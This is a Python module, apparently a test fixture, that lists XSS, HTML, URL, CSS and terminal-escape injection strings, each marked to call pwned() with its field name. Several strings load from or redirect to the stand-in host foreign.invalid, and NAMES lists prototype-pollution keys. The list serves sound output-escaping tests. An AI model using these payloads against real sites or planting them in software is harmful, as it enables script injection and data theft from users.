"""Texts that become markup, scripts, addresses or styles wherever they are taken for more than text.

Each calls ``pwned('FIELD')`` where it runs, and so names the field that it was in.
"""

from __future__ import annotations

_CLASSIC = (
    "<script>@</script>",
    "<ScRiPt >@</sCrIpT >",
    "<img src=x onerror=@>",
    "<img/src=x/onerror=@>",
    "<svg onload=@>",
    "<svg/onload=@><animate onbegin=@ attributeName=x>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<body onload=@>",
    "<details open ontoggle=@>",
    "<input autofocus onfocus=@>",
    "<video><source onerror=@></video>",
    "<math><mtext></p><style><img title='</style><img src=x onerror=@>'>",
    "<object data='javascript:@'></object>",
    "<base href='https://foreign.invalid/'>",
    "<meta http-equiv=refresh content='0;url=https://foreign.invalid/'>",
    "<link rel=stylesheet href=https://foreign.invalid/x.css>",
    "<form action=javascript:@><button>go",
)
_BREAKOUTS = (
    '" onmouseover=@ x="',
    "' autofocus onfocus=@ x='",
    "</title></textarea></style></script><img src=x onerror=@>",
    "`><img src=x onerror=@>`",
    '{{constructor.constructor("@")()}}',
    "${@}",
    "]]><!--><img src=x onerror=@>-->",
    "&lt;img src=x onerror=@&gt; &#x3c;script&#x3e;@&#x3c;/script&#x3e;",
    "\\u003cimg src=x onerror=@\\u003e",
    "%3Cimg%20src=x%20onerror=@%3E",
)
_ADDRESSES = (
    "javascript:@",
    "JaVaScRiPt:@",
    "\tjava\nscript:@",
    "data:text/html,<script>@</script>",
    "//foreign.invalid/x.js?@",
)
_STYLES = (
    "red;background:url(https://foreign.invalid/@)",
    "</style><style>*{display:none}/*@*/",
    "x'];}*{background:url(//foreign.invalid)}[a='@",
)
_LETTERS = (
    "\u202egnp.txt@\u202c",
    "zero\u200bwidth\u200d\u2060\ufeff@",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b@" + "\u0321" * 40,
    "\x1b[31mred\x1b]8;;https://foreign.invalid\x07link\x1b]8;;\x07@\x1b[2J",
    "W" * 400 + "@",
    "\U0001f4a9\ufffd\u2028\u2029@",
    "nul\0@",
)
NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "valueOf")
"""Keys that every object of a script has already."""


def laden(field: str) -> list[str]:
    """All texts, as they are put into a field of that name."""
    every = (*_CLASSIC, *_BREAKOUTS, *_ADDRESSES, *_STYLES, *_LETTERS)
    return [text.replace("@", f"pwned('{field}')") for text in every]


def words(field: str, forbidden: str) -> list[str]:
    """Those of them that do without white space, control characters and the forbidden ones."""
    return [
        text for text in laden(field) if text.isprintable() and not set(text) & set(forbidden + " ") and len(text) < 200
    ]
